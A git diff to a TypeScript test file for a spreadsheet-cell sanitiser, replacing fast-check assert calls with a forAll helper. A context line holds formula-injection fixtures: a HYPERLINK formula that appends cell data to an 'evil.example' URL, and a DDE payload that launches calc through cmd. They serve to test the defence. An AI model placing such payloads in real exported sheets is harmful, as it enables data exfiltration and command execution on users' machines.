@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 
 import { guarded, sheetRow, sheetText, unguarded } from '../../nodes/VtuWallet/values/sheetText';
+import { forAll } from '../support/forAll';
 
 test.each([
 	...['=1+1', '=HYPERLINK("https://evil.example?"&A1,"Receipt")', "+cmd|' /C calc'!A0"],
@@ -17,14 +18,10 @@ test.each([
 
 test('whatever the text, no cell begins like a formula that holds more than a number', () => {
 	const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', '1', 'a', '(', ')');
-	fc.assert(
-		fc.property(fc.array(start, { maxLength: 6 }), fc.string(), (before, after) => {
-			const cell = sheetText(before.join('') + after);
-			expect(/^\s*[=+@-].*[a-z(!|]/is.test(cell) && !/^\s*[+-]?[\d\s.,()-]*$/.test(cell)).toBe(
-				false,
-			);
-		}),
-	);
+	forAll([fc.array(start, { maxLength: 6 }), fc.string()], (before, after) => {
+		const cell = sheetText(before.join('') + after);
+		expect(/^\s*[=+@-].*[a-z(!|]/is.test(cell) && !/^\s*[+-]?[\d\s.,()-]*$/.test(cell)).toBe(false);
+	});
 });
 
 test('every text of a row is guarded, save its key and its reference, which have to stay as they are', () => {
@@ -62,5 +59,5 @@ test.each([
 
 test('any other text reads back as it was', () => {
 	const storable = fc.string({ unit: 'binary' }).filter((text) => !text.includes('\0'));
-	fc.assert(fc.property(storable, (text) => unguarded(guarded(text)) === text));
+	forAll([storable], (text) => unguarded(guarded(text)) === text);
 });
